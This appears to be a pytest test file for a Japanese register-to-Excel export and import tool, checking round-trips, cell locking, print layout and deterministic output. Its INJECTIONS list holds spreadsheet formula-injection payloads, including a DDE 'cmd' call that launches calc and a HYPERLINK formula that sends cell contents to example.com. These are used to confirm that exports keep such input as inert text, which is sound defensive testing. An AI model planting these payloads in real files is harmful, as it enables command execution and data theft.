import io
import json
import re
import unicodedata
import zipfile
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter, range_boundaries
from openpyxl.worksheet.worksheet import Worksheet

from evidence.datasets import Dataset, catalogue
from registers.forms import form
from registers.reading import read
from registers.sheets import export, template
from tests.look.strict import faults
from tests.registers.samples import BORDER, REGISTERS, VENDORS, sample

INJECTIONS = {
    "equals": "=1+1",
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(A1:A9)",
    "tab": "\t=1+1",
    "full width equals": "＝1+1",
    "command": "=cmd|'/C calc'!A0",
    "link": '=HYPERLINK("http://example.com?x="&A1,"here")',
    "quote": "'=1+1",
    "an error": "#N/A",
    "an escape of the format": "_x003D_1+1",
    "markup": "<f>1+1</f>&amp;<![CDATA[",
}


def opened(content: bytes, title: str) -> Worksheet:
    sheet = load_workbook(io.BytesIO(content))[title]
    assert isinstance(sheet, Worksheet)
    return sheet


def pages(content: bytes) -> list[Worksheet]:
    """The sheets that are printed."""
    return [sheet for sheet in load_workbook(io.BytesIO(content)).worksheets if sheet.sheet_state == "visible"]


def printed_points(sheet: Worksheet) -> float:
    """How large the letters are on paper when the columns are spread over the pages that they may take."""
    size, digit = float(sheet["A1"].font.sz), 0.555  # of the typeface: a unit of width is a digit
    repeated = int(range_boundaries(sheet.print_title_cols.replace("$", ""))[2] or 0) if sheet.print_title_cols else 0
    widths = [sheet.column_dimensions[get_column_letter(n)].width for n in range(1, sheet.max_column + 1)]
    paper = (297 / 25.4 - sheet.page_margins.left - sheet.page_margins.right) * 72
    fitting = (
        points
        for points in (size - step / 10 for step in range(60))
        if spread(widths, repeated, paper / (points * digit)) <= int(sheet.page_setup.fitToWidth or 1)
    )
    return next(fitting, 0.0)


def spread(widths: list[float], repeated: int, paper: float) -> int:
    """How many pages so wide the columns take, the first ones repeated on each."""
    count, taken = 1, 0.0
    for width in widths:
        if taken + width > paper:
            count, taken = count + 1, sum(widths[:repeated])
        taken += width
    return count


def named(name: str) -> dict[str, Any]:
    return {**sample(VENDORS), "name": name}


def naughty_texts(shared: Path) -> list[str]:
    """The strings that break software; what a cell cannot tell from an empty one is left out."""
    texts: list[str] = json.loads((shared / "data" / "blns" / "blns.json").read_text("utf-8"))
    return [text for text in texts if text.strip()]


@pytest.mark.parametrize("dataset", REGISTERS, ids=lambda dataset: dataset.name)
def test_a_template_is_read_as_an_empty_register(dataset: Dataset) -> None:
    reading = read(form(dataset), template(dataset), "t.xlsx", BORDER)
    assert (reading.sheet, reading.lines, reading.problems) == (dataset.title_ja, (), ())


@pytest.mark.parametrize("dataset", REGISTERS, ids=lambda dataset: dataset.name)
def test_a_full_row_of_any_register_survives_its_own_export(dataset: Dataset) -> None:
    row = sample(dataset)
    [line] = read(form(dataset), export(dataset, [row]), "e.xlsx", BORDER).lines
    assert line.values == row


@pytest.mark.parametrize("text", INJECTIONS.values(), ids=INJECTIONS)
def test_what_looks_like_a_formula_is_inert_text(text: str) -> None:
    cell = opened(export(VENDORS, [named(text)]), "委託先")["E3"]
    assert (cell.data_type, cell.number_format) == ("s", "@")


@pytest.mark.parametrize("text", INJECTIONS.values(), ids=INJECTIONS)
def test_what_looks_like_a_formula_is_read_back_as_it_was(text: str) -> None:
    [line] = read(form(VENDORS), export(VENDORS, [named(text)]), "e.xlsx", BORDER).lines
    assert line.values["name"] == text


def test_no_workbook_of_ours_holds_a_formula() -> None:
    book = load_workbook(io.BytesIO(export(VENDORS, [named(text) for text in INJECTIONS.values()])))
    kinds = {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row}
    assert "f" not in kinds


def test_every_naughty_text_survives_our_own_export(shared: Path) -> None:
    texts = [unicodedata.normalize("NFC", text) for text in naughty_texts(shared)]
    rows = [{**named(text), "vendor_id": f"V-{number}"} for number, text in enumerate(naughty_texts(shared))]
    reading = read(form(VENDORS), export(VENDORS, rows), "e.xlsx", BORDER)
    assert [line.values["name"] for line in reading.lines] == texts


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("\x01" * 32_767, id="as long as a cell may be, each letter escaped"),
        pytest.param(" \ta\r\n\x0b\x85\u2028 ", id="blanks of all kinds on both sides"),
        pytest.param("\ufffe\uffff", id="what no XML can hold"),
        pytest.param("_x000D_ _xFFF0_ _x005F_", id="escapes of the format"),
    ],
)
def test_a_text_is_read_back_letter_by_letter(text: str) -> None:
    [line] = read(form(VENDORS), export(VENDORS, [named(text)]), "e.xlsx", BORDER).lines
    assert line.values["name"] == text


def test_the_keys_of_rows_that_exist_are_locked_and_all_else_is_open() -> None:
    sheet = opened(export(VENDORS, [named("みどり印刷")]), "委託先")
    assert sheet.protection.sheet
    assert {cell.coordinate for cell in sheet[3] if cell.protection.locked} == {"C3"}
    assert not any(column.protection.locked for column in sheet.column_dimensions.values())


def test_every_column_of_a_key_is_locked() -> None:
    entries = catalogue()["book_entries"]
    sheet = opened(export(entries, [sample(entries)]), "個人情報管理台帳")
    locked = {name.value for name, cell in zip(sheet[2], sheet[3], strict=True) if cell.protection.locked}
    assert locked == set(entries.key)


def test_a_template_has_nothing_locked_but_its_header() -> None:
    sheet = opened(template(VENDORS), "委託先")
    locked = {cell.row for row in sheet.iter_rows() for cell in row if cell.protection.locked}
    assert (locked, sheet.protection.sheet) == ({1, 2}, True)
    assert not any(column.protection.locked for column in sheet.column_dimensions.values())


def test_headers_are_japanese_and_marked_where_they_must_be_filled_in() -> None:
    sheet = opened(template(VENDORS), "委託先")
    assert [sheet.cell(1, column).value for column in (1, 3, 4)] == ["会社 ●", "委託先ID ●", "法人番号"]


def test_the_english_names_stand_in_a_hidden_second_row() -> None:
    sheet = opened(template(VENDORS), "委託先")
    assert sheet.row_dimensions[2].hidden
    assert [cell.value for cell in sheet[2]] == [one.name for one in form(VENDORS).fields]


def test_the_sheet_prints_on_a4_landscape_with_its_header_on_every_page() -> None:
    sheet = opened(template(VENDORS), "委託先")
    assert (sheet.page_setup.orientation, sheet.page_setup.paperSize) == ("landscape", 9)
    assert sheet.print_title_rows == "$1:$1"
    assert sheet.freeze_panes == "D3"


@pytest.mark.parametrize("dataset", REGISTERS, ids=lambda dataset: dataset.name)
def test_every_page_says_what_it_is_of_and_which_one(dataset: Dataset) -> None:
    for sheet in pages(template(dataset)):
        assert sheet.oddHeader.center.text == dataset.title_ja  # type: ignore[union-attr]
        assert (sheet.oddFooter.left.text, sheet.oddFooter.right.text) == ("&A", "&P / &N")  # type: ignore[union-attr]


@pytest.mark.parametrize("dataset", REGISTERS, ids=lambda dataset: dataset.name)
def test_a_register_is_filtered_from_its_header_to_its_last_row_though_it_is_protected(dataset: Dataset) -> None:
    sheet = opened(export(dataset, [sample(dataset)] * 3), dataset.title_ja)
    assert sheet.auto_filter.ref == f"A1:{get_column_letter(len(form(dataset).fields))}5"
    assert (sheet.protection.sheet, sheet.protection.autoFilter) == (True, False)


@pytest.mark.parametrize("rows", [0, 2], ids=["template", "export"])
@pytest.mark.parametrize("dataset", REGISTERS, ids=lambda dataset: dataset.name)
def test_no_letter_is_printed_below_seven_points(dataset: Dataset, rows: int) -> None:
    for sheet in pages(export(dataset, [sample(dataset)] * rows)):
        assert printed_points(sheet) >= 7


def test_a_width_is_told_in_the_letters_that_are_printed() -> None:
    book = load_workbook(io.BytesIO(template(VENDORS)))
    first = book._fonts[0]  # type: ignore[attr-defined]
    assert (first.name, first.sz) == (book["委託先"]["A1"].font.name, book["委託先"]["A1"].font.sz)


def test_asked_for_twice_an_export_is_the_same_bytes() -> None:
    with zipfile.ZipFile(io.BytesIO(export(VENDORS, [named("みどり印刷")]))) as archive:
        stamps = set(re.findall(r"\d{4}-\d{2}-\d{2}T[\d:]+Z", archive.read("docProps/core.xml").decode()))
        assert {one.date_time for one in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
    assert stamps == {"1980-01-01T00:00:00Z"}


@pytest.mark.parametrize("dataset", REGISTERS, ids=lambda dataset: dataset.name)
def test_a_strict_reader_finds_nothing_to_mend(dataset: Dataset) -> None:
    assert faults(export(dataset, [sample(dataset)])) == []


def test_every_header_explains_itself() -> None:
    sheet = opened(template(VENDORS), "委託先")
    assert all(cell.comment is not None and cell.comment.text for cell in sheet[1])


def test_closed_lists_are_offered_to_choose_from() -> None:
    book = load_workbook(io.BytesIO(template(VENDORS)))
    offers = {
        str(offer.sqref).split(":")[0]: offer.formula1 for offer in book["委託先"].data_validations.dataValidation
    }
    assert offers["F3"] == "'選択肢'!$F$1:$F$3"
    assert [book["選択肢"].cell(row, 6).value for row in (1, 2, 3)] == ["T1(重要)", "T2(標準)", "T3(軽微)"]
    assert book["選択肢"].sheet_state == "hidden"


def test_empty_cells_of_text_columns_are_text_before_anyone_types() -> None:
    sheet = opened(template(VENDORS), "委託先")
    assert sheet.column_dimensions["C"].number_format == "@"


def test_a_wide_register_prints_on_several_pages_that_stay_readable() -> None:
    sheet = opened(template(catalogue()["book_entries"]), "個人情報管理台帳")
    assert 4 < int(sheet.page_setup.fitToWidth or 0) < 9


@pytest.mark.parametrize("letters", [1, 10, 40, 100])
def test_a_row_is_as_high_as_its_text(letters: int) -> None:
    sheet = opened(export(VENDORS, [named("あ" * letters)]), "委託先")
    [column] = [cell.column_letter for cell in sheet[2] if cell.value == "name"]
    lines = letters * 2 / sheet.column_dimensions[column].width  # a Japanese letter is as wide as two others
    assert (sheet.row_dimensions[3].height or 15) >= 15 * lines


def test_a_text_that_no_page_holds_makes_no_row_that_no_screen_shows() -> None:
    assert opened(export(VENDORS, [named("あ" * 4000)]), "委託先").row_dimensions[3].height == 300
